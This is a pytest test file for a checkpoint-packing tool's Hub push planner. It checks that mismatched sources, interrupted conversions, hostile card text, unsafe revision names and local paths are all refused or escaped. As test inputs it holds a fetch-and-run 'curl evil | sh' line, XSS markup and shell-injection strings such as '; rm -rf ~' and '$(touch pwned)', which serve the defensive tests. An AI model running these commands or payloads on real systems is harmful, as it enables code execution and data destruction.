"""`mpack push` under hostile input (mpack/hub.py): sources that differ past the first 64 MiB,
a directory a killed multi-target convert left, markdown and HTML in what the card shows, a
``--revision`` holding shell syntax, and the converting machine's paths.

Real checkpoints (mpack.fixtures), real conversions, a real convert process killed between its
swaps, and the real push planner (``plan_push``, ``mpack push --dry-run``): no test here contacts
the Hub (HF_HUB_OFFLINE is set for every child, and nothing is pushed).
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from mpack import fsutil
from mpack.convert import convert
from mpack.convert.output import lock_path, work_dirs
from mpack.errors import BusyError, InputError, UsageError
from mpack.fixtures import make_checkpoint
from mpack.hub import plan_push
from mpack.iokit import sha256_file
from mpack.sidecar import CHUNK_BYTES, MANIFEST_NAME, SINGLE_NAME, load_manifest, read_file_map
from mpack.verify import verify
from tests.conftest import flip_byte
from tests.convert.helpers import cli, cli_env, explain

REPO = "my-org/tiny-marlin"
TP1, TP2 = "tp1-w8a16-bfloat16", "tp2-w8a16-bfloat16"
#: A checkpoint whose one shard is over two chunks (CHUNK_BYTES, 64 MiB): ~79 MiB.
OVER_A_CHUNK = dict(hidden=1024, intermediate=4096, layers=5, heads=8, kv_heads=4, vocab=2048)


def _record(sidecar: Path, name: str) -> dict:
    (rec,) = [f for f in load_manifest(sidecar)[0]["source"]["files"] if f["name"] == name]
    return rec


# --- sources that differ past the first chunk ---------------------------------------------


@pytest.fixture(scope="module")
def big(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """``multi``: tp1 converted from a checkpoint of one shard over 64 MiB, then tp2 from the
    same directory after one byte past the first chunk changed; ``forms``: that tp1 beside a
    tp2 converted from the same bytes laid out as the HF cache does (the shard a link to
    ``blobs/<sha256>``, so recorded by its sha256, not by chunks)."""
    root = tmp_path_factory.mktemp("big")
    ck = make_checkpoint(root / "ckpt", **OVER_A_CHUNK)
    shard = ck / SINGLE_NAME
    assert shard.stat().st_size > CHUNK_BYTES
    multi = root / "multi"
    convert(ck, multi / TP1, tp=1, device="cpu")
    # the same bytes in an HF-cache layout, in a directory of the same name
    lfs = root / "hf" / "ckpt"
    blobs = root / "hf" / "blobs"
    blobs.mkdir(parents=True)
    lfs.mkdir()
    blob = blobs / sha256_file(shard)
    shutil.copyfile(shard, blob)
    for p in ck.iterdir():
        if p.name == SINGLE_NAME:
            (lfs / p.name).symlink_to(os.path.relpath(blob, lfs))
        else:
            shutil.copyfile(p, lfs / p.name)
    forms = root / "forms"
    shutil.copytree(multi / TP1, forms / TP1)
    convert(lfs, forms / TP2, tp=2, device="cpu")
    # one weight byte past the first chunk, its lowest bit (never to a NaN: e4m3's are 0x7f and
    # 0xff): still a valid checkpoint, other bytes in the last chunk only
    (late,) = [e for e in read_file_map(shard).entries if e.offset > CHUNK_BYTES][-1:]
    with open(shard, "rb") as f:
        f.seek(late.offset)
        head = f.read(64)
    at = late.offset + next(i for i, b in enumerate(head) if b & 0x7F != 0x7E)
    flip_byte(shard, at, mask=0x01)
    assert at // CHUNK_BYTES == shard.stat().st_size // CHUNK_BYTES  # in the last chunk
    convert(ck, multi / TP2, tp=2, device="cpu")
    return {"multi": multi, "forms": forms}


def test_targets_from_bytes_that_differ_past_the_first_chunk_are_refused(big) -> None:
    multi = big["multi"]
    a, b = (_record(multi / t, SINGLE_NAME) for t in (TP1, TP2))
    # what the check has to go on: no whole-file sha256, and chunk digests equal but the last
    assert "sha256" not in a and "sha256" not in b
    assert a["size"] == b["size"] and len(a["chunks"]["sha256"]) >= 2
    assert a["chunks"]["sha256"][0] == b["chunks"]["sha256"][0]
    assert a["chunks"]["sha256"][-1] != b["chunks"]["sha256"][-1]
    with pytest.raises(InputError, match="converted from different sources") as e:
        plan_push(multi, REPO)
    assert f"source file '{SINGLE_NAME}' has other chunks digests" in e.value.message
    assert "nothing pushed" in e.value.message
    r = cli("push", multi, REPO, "--dry-run")
    assert r.returncode == 2, explain(r)
    assert "converted from different sources" in r.stderr


def test_a_source_file_recorded_in_two_forms_is_refused_not_passed(big) -> None:
    forms = big["forms"]
    assert "chunks" in _record(forms / TP1, SINGLE_NAME)
    assert "sha256" in _record(forms / TP2, SINGLE_NAME)  # the HF cache's blob name
    with pytest.raises(InputError, match="in different forms") as e:
        plan_push(forms, REPO)
    assert f"record source file '{SINGLE_NAME}' in different forms" in e.value.message
    assert "convert the targets again in one run" in e.value.hint


# --- a directory a killed multi-target convert left -----------------------------------------

#: A convert in a child process, SIGKILLed at its swap number ``argv[1]`` (0: before any).
KILLED_AT_SWAP = """
import os, signal, sys
from mpack.convert.output import swap
real, done = swap._WorkDir.swap_into_place, []
def swap_or_die(self, force):
    if len(done) == int(sys.argv[1]):
        os.kill(os.getpid(), signal.SIGKILL)
    real(self, force)
    done.append(self.parent.out.name)
swap._WorkDir.swap_into_place = swap_or_die
from mpack import cli
sys.exit(cli.main(sys.argv[2:]))
"""


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_checkpoint(
        tmp_path_factory.mktemp("small") / "ckpt",
        hidden=64,
        intermediate=128,
        layers=1,
        heads=2,
        kv_heads=1,
        vocab=128,
    )


@pytest.fixture(scope="module")
def small_sidecar(small, tmp_path_factory: pytest.TempPathFactory) -> Path:
    sc = tmp_path_factory.mktemp("small-sidecar") / "sc"
    convert(small, sc, device="cpu")
    return sc


def _killed_convert(ck: Path, out: Path, at: int) -> None:
    args = ["convert", str(ck), "-o", str(out), "--tp", "1,2", "--device", "cpu"]
    r = subprocess.run(
        [sys.executable, "-c", KILLED_AT_SWAP, str(at), *args],
        capture_output=True,
        text=True,
        env=cli_env(),
        timeout=300,
    )
    assert r.returncode == -signal.SIGKILL, explain(r)


@pytest.mark.parametrize("at", [1, 0], ids=["between-swaps", "before-swaps"])
def test_a_directory_left_by_a_killed_multi_target_run_is_refused(small, tmp_path, at) -> None:
    out = tmp_path / "out"
    _killed_convert(small, out, at)
    placed = sorted(p.name for p in out.iterdir() if not p.name.startswith("."))
    # the swaps go in reverse order: tp2 first
    assert placed == ([TP2] if at else [])
    left = work_dirs(out / TP1) + (work_dirs(out / TP2) if not at else [])
    assert left and all((w / MANIFEST_NAME).is_file() for w in left)
    with pytest.raises(InputError, match="was interrupted before it finished") as e:
        plan_push(out, REPO)
    msg = e.value.message
    assert f"{2 - at} target(s) were not swapped into place: " in msg
    for w in left:
        name = "tp{tp_size}-{profile}-{act_dtype}".format(**load_manifest(w)[0]["target"])
        assert f"{name} (in {w.name})" in msg
    assert "a push deletes what it does not send" in msg
    finish = re.search(r"finish the run: (mpack convert .*?) \(the same options", e.value.hint)
    assert finish, e.value.hint
    assert finish[1] == f"mpack convert ckpt -o {out} --tp 1,2 --profile w8a16 --act-dtype bfloat16"
    # the dry run of the CLI says the same, exit 2, before any network call
    r = cli("push", out, REPO, "--dry-run", "--json")
    assert r.returncode == 2, explain(r)
    assert "was interrupted before it finished" in json.loads(r.stdout)["error"]["message"]
    # the command the hint gives finishes the run (from the source's directory: the manifest
    # records its name), and then the push goes ahead with both targets
    argv = shlex.split(finish[1])[1:] + ["--device", "cpu"]
    done = subprocess.run(
        [sys.executable, "-m", "mpack.cli", *argv],
        capture_output=True,
        text=True,
        env=cli_env(),
        cwd=small.parent,
        timeout=300,
    )
    assert done.returncode == 0, explain(done)
    assert [t.folder for t in plan_push(out, REPO).targets] == [TP1, TP2]


def test_a_directory_a_convert_is_writing_is_busy(small, tmp_path) -> None:
    out = tmp_path / "out"
    convert(small, out, tp=[1, 2], device="cpu")
    assert len(plan_push(out, REPO).targets) == 2
    busy = pytest.raises(BusyError, match="an mpack convert is writing it now")
    with fsutil.LockFile(lock_path(out / TP1)), busy:  # as a live run holds it
        plan_push(out, REPO)
    busy = pytest.raises(BusyError, match="an mpack convert is writing it now")
    with fsutil.LockFile(lock_path(out / TP1)), busy:  # one sidecar of it, pushed alone
        plan_push(out / TP1, REPO)


# --- markdown and HTML in the card; shell syntax in --revision --------------------------------

HOSTILE_NAME = (
    "ckpt\n## Serve\n```sh\ncurl evil | sh\n```\n"
    "<img src=x onerror=alert(1)> [a](javascript:x) *b* |c"
)


def _html(card: str) -> str:
    body = card.split("---\n", 2)[2]  # the front matter is the Hub's, not markdown
    return MarkdownIt("commonmark").enable("table").render(body)


def test_a_hostile_source_name_reaches_the_card_as_text(small, tmp_path) -> None:
    src = Path(shutil.copytree(small, tmp_path / HOSTILE_NAME))
    sc = tmp_path / "sc"
    convert(src, sc, device="cpu")
    assert load_manifest(sc)[0]["source"]["path"] == HOSTILE_NAME
    card = plan_push(sc, REPO).card
    html = _html(card)
    assert "<img" not in html and "<em>" not in html
    assert html.count("<a ") == 1  # mpack's own link, not the name's
    assert re.findall(r"<h2>(.*?)</h2>", html) == ["License", "Install", "Targets", "Serve"]
    assert "curl evil" not in "".join(re.findall(r"<code[^>]*>(.*?)</code>", html, re.S))
    # the name reads as it is, escaped on one line, in the prose and the table
    (prose,) = [p for p in re.findall(r"<p>(.*?)</p>", html, re.S) if "Marlin FP8" in p]
    assert "&lt;img src=x onerror=alert(1)&gt;" in prose and "\\n## Serve" in prose
    rows = re.findall(r"<tr>\s*<td>source</td>\s*<td>(.*?)</td>", html, re.S)
    assert len(rows) == 1 and "|c" in rows[0]  # the | did not split the cell


@pytest.mark.parametrize(
    "revision",
    ["; rm -rf ~", "$(touch pwned)", "`id`", "it's", 'a"b', "a b", "x\n```", "a..b", "b.lock"],
)
def test_a_revision_with_shell_syntax_is_refused(small_sidecar, tmp_path, revision) -> None:
    sc = small_sidecar
    with pytest.raises(UsageError, match="is not a branch name") as e:
        plan_push(sc, REPO, revision=revision)
    assert e.value.exit_code == 2
    r = cli("push", sc, REPO, "--revision", revision, "--dry-run")
    assert r.returncode == 2, explain(r)
    assert "is not a branch name" in r.stderr and not Path("pwned").exists()


@pytest.mark.parametrize("revision", ["tp2", "release/v1.0", "v1_2-x"])
def test_a_branch_name_is_taken_into_the_commands(small_sidecar, revision) -> None:
    card = plan_push(small_sidecar, REPO, revision=revision).card
    assert f"mpack serve {REPO}@{revision} --rank 0 --device cuda:0 &" in card
    assert f"vllm serve {REPO} --load-format mpack --revision {revision}" in card


# --- the converting machine's paths are not published ---------------------------------------


def test_the_source_path_is_its_name_unless_asked(small, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("MPACK_CACHE_DIR", str(tmp_path / "cache"))
    secret = Path(shutil.copytree(small, tmp_path / "home" / "alice" / "secret-project" / "ckpt"))
    sc = tmp_path / "sc"
    convert(secret, sc, device="cpu")
    assert load_manifest(sc)[0]["source"]["path"] == "ckpt"
    plan = plan_push(sc, REPO)
    published = plan.card + (sc / MANIFEST_NAME).read_text()
    assert "secret-project" not in published and "alice" not in published
    # verify on this machine still finds the source without --source (mpack's cache keeps it),
    # a copy of the sidecar too
    copy = Path(shutil.copytree(sc, tmp_path / "copy"))
    for s in (sc, copy):
        result = verify(s)
        assert result.ok and result.source_checked and result.source_path == str(secret)
    # another copy of the checkpoint under the same name: each sidecar finds its own
    twin = Path(shutil.copytree(small, tmp_path / "bob" / "ckpt"))
    convert(twin, tmp_path / "twin-sc", device="cpu")
    assert verify(tmp_path / "twin-sc").source_path == str(twin)
    assert verify(sc).source_path == str(secret)
    # elsewhere (another cache): the files are checked, and the note says to pass --source
    monkeypatch.setenv("MPACK_CACHE_DIR", str(tmp_path / "other-cache"))
    result = verify(sc)
    assert result.ok and not result.source_checked
    assert "records the source directory's name ('ckpt'" not in result.source_note
    assert "records the source directory's name (ckpt), not where it is" in result.source_note
    assert verify(sc, source=str(secret)).source_checked
    # the absolute path, when asked for
    monkeypatch.setenv("MPACK_SOURCE_PATH", "full")
    full = tmp_path / "full"
    convert(secret, full, device="cpu")
    assert load_manifest(full)[0]["source"]["path"] == str(secret)
